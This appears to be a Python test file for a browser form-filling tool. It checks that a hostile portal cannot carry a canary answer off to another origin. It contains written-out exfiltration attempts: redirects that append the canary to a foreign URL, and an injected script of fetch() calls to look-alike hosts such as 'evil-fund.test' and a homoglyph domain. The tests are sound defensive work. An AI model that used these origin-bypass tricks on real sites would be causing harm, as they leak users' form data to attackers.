"""A hostile portal tries every way out that we know of; not one byte of an answer arrives anywhere else."""

from __future__ import annotations

import socket
import time
from contextlib import suppress
from typing import Any

import pytest
from portals.hostile import TRICKS, Elsewhere, Trick, listening

from formbridge.browser import Portal, open_portal
from formbridge.browser.find import Browser
from formbridge.browser.session import library
from formbridge.browser.switches import launch_args, sandbox_works
from formbridge.errors import OriginRefused, PortalError
from formbridge.mapping.plan import PagePlan
from tests.e2e.browser.conftest import form, step
from tests.e2e.browser.site import Site

CANARY = "canarythatmuststayathome"
PAGE = PagePlan("name", "Name", "", "", "", (step("title", "Project name", CANARY, name="title"),))


def fill_a_page(portal: Portal) -> None:
    """Put the answer in and save it, as a run does."""
    portal.open_draft("d1")
    portal.go_to(PAGE)
    portal.fill(PAGE.steps)
    portal.save_page()
    portal.reload()


def test_no_trick_carries_an_answer_to_another_origin(site: Site, elsewhere: Elsewhere) -> None:
    wrong = []
    with open_portal("small", site.url, (), form()) as portal:
        for trick in TRICKS:
            site.draft.clear()
            site.hits.clear()
            site.extra["/form/1"] = trick.page(f"http://127.0.0.1:{elsewhere.port}")
            ended = how_it_ends(portal)
            if elsewhere.heard or "/tried" not in site.hits or not is_clear(trick, ended):
                wrong.append(f"{trick.name}: {ended} {elsewhere.heard!r} {site.hits}")
        assert not elsewhere.arrived.wait(2)  # nor late
    assert "\n".join(wrong) == ""


def how_it_ends(portal: Portal) -> str:
    """What the run says in the end; "filled" when it was merely blocked."""
    try:
        fill_a_page(portal)
    except PortalError as error:
        return f"{type(error).__name__}: {error.message}"
    return "filled"


def is_clear(trick: Trick, ended: str) -> bool:
    """A trick that leads away ends in an error of ours, or came too late; any other changes nothing."""
    return ended == "filled" or (
        trick.leads_away and ended.startswith(("OriginRefused", "PageChanged", "PortalError"))
    )


def test_a_window_that_a_page_opened_does_not_hold_up_the_pages_after_it(
    site: Site, elsewhere: Elsewhere
) -> None:
    """A page that is covered is seldom drawn, and a press waits for that: one to four seconds each time."""
    (pop_up,) = (trick for trick in TRICKS if trick.name == "a pop-up")
    with open_portal("small", site.url, (), form()) as portal:
        site.extra["/form/1"] = pop_up.page(f"http://127.0.0.1:{elsewhere.port}")
        seconds_to_save(portal, site)
        site.extra.clear()
        assert len(portal._page.context.pages) > 1
        assert min(seconds_to_save(portal, site) for _ in range(4)) < 1


def seconds_to_save(portal: Portal, site: Site) -> float:
    site.draft.clear()
    portal.open_draft("d1")
    portal.go_to(PAGE)
    portal.fill(PAGE.steps)
    began = time.monotonic()
    assert portal.save_page().accepted
    took = time.monotonic() - began
    portal.reload()
    return took


@pytest.mark.parametrize("status", [302, 303, 307, 308])
def test_no_redirect_of_a_form_carries_an_answer_away(site: Site, elsewhere: Elsewhere, status: int) -> None:
    there = f"http://127.0.0.1:{elsewhere.port}"
    site.redirects["/form/1"] = (status, f"{there}/redirected?word={CANARY}")
    with open_portal("small", site.url, (), form()) as portal:
        portal.open_draft("d1")
        site.redirects.clear()
        portal.go_to(PAGE)
        portal.fill(PAGE.steps)
        site.redirects["/form/1"] = (status, f"{there}/redirected?word={CANARY}")
        with pytest.raises(OriginRefused, match="Nothing was sent there"):
            portal.save_page()
    assert elsewhere.heard == b""


def test_names_that_look_like_the_funders_lead_nowhere(
    site: Site, elsewhere: Elsewhere, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every name leads to this machine here, so a name that is let through would be heard."""
    find = socket.getaddrinfo

    def here(host: Any, *more: Any, **named: Any) -> Any:
        return find("127.0.0.1" if str(host).endswith((".test", ".test.")) else host, *more, **named)

    monkeypatch.setattr(socket, "getaddrinfo", here)
    own = site.url.rpartition(":")[2]
    look_alikes = (
        "fund.test.evil.test", "evil-fund.test", "fund.test@evil.test", "fund-test.test", "f\u03c5nd.test",
        "xn--fnd-zqc.test", "fund.test.", "sub.fund.test",
    )  # fmt: skip
    asked = [f"http://{name}:{elsewhere.port}/?{CANARY}" for name in ("fund.test", *look_alikes)]
    asked += [f"http://{name}:{own}/stolen" for name in look_alikes if name != "fund.test."]
    tries = "".join(f"fetch({address!r}, {{mode: 'no-cors'}}).catch(() => 0);" for address in asked)
    site.extra["/form/1"] = f"<script>{tries}</script>"
    with open_portal("small", f"http://fund.test:{own}", (), form()) as portal:
        fill_a_page(portal)
        refused = portal._gate.refused if portal._gate else []
    assert elsewhere.heard == b"" and "/stolen" not in site.hits
    assert len(set(refused)) >= len(look_alikes)
    assert site.draft["title"] == CANARY


def test_without_the_gate_the_same_tricks_carry_the_answer_away(site: Site, browser: Browser) -> None:
    """Otherwise the test above would pass for tricks that do not work."""
    from playwright.sync_api import Error

    stayed = []
    with library() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=browser.path, args=list(launch_args()), chromium_sandbox=sandbox_works()
        )
        for trick in TRICKS:
            with listening() as elsewhere:
                site.extra["/form/1"] = trick.page(f"http://127.0.0.1:{elsewhere.port}")
                page = chromium.new_page()
                page.goto(f"{site.url}/form/1")
                with suppress(Error):  # a trick may take the page away before the answer comes back
                    page.evaluate("word => { document.querySelector('[name=title]').value = word }", CANARY)
                if trick.works and not elsewhere.arrived.wait(1):
                    with suppress(Error):
                        page.locator("button").click(no_wait_after=True, timeout=5000)
                if not elsewhere.arrived.wait(2 if trick.works else 0):
                    stayed.append(trick.name)
                page.close()
        chromium.close()
    assert stayed == [trick.name for trick in TRICKS if not trick.works]
